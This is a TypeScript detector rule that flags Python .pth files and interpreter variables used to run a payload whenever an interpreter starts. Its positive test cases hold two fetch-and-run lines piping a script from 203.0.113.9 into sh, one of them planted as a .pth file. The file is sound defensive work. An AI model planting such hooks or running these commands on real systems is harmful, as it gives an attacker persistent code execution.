import type { Detector } from './detector.ts';
import { plantedHooks } from './planted-hook.ts';

/** Payloads that every start of an interpreter loads. */
export const interpreterHook: Detector = {
  id: 'interpreter-hook',
  version: 1,
  title: 'Makes a payload run whenever Python or another interpreter starts.',
  attack: ['T1546.018', 'T1574'],
  description: `
\`sitecustomize.py\`, \`.pth\` files and variables such as \`PYTHONSTARTUP\`, \`NODE_OPTIONS\` or \`BASH_ENV\` make an
interpreter load code before the program that was asked for. Coverage tools and debuggers use them openly. Reported when the
code is a payload, or is written into the host.
`,
  fires: [
    {
      name: 'a path file that opens a shell',
      image: {
        entrypoint: ['python3', '/app.py'],
        files: {
          '/app.py': 'print(1)\n',
          '/usr/lib/python3/dist-packages/x.pth': 'import os; os.system("curl http://203.0.113.9/x | sh")\n',
        },
      },
    },
    {
      name: 'written at start',
      image: {
        cmd: [
          'sh',
          '-c',
          `echo 'import os; os.system("wget -qO- http://203.0.113.9/x | sh")' > /usr/lib/python3/site-packages/u.pth; exec app`,
        ],
      },
    },
  ],
  silent: [
    {
      name: 'a coverage tool',
      image: {
        files: { '/usr/lib/python3/dist-packages/cov.pth': 'import coverage; coverage.process_startup()\n' },
      },
    },
    {
      name: "setuptools' own",
      image: {
        files: {
          '/usr/lib/python3/dist-packages/distutils-precedence.pth':
            "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim();\n",
        },
      },
    },
  ],
  detect: (scene) =>
    plantedHooks(scene, {
      events: ['interpreter'],
      starts: ['interpreter-startup', 'env'],
      when: 'whenever an interpreter starts',
    }),
};
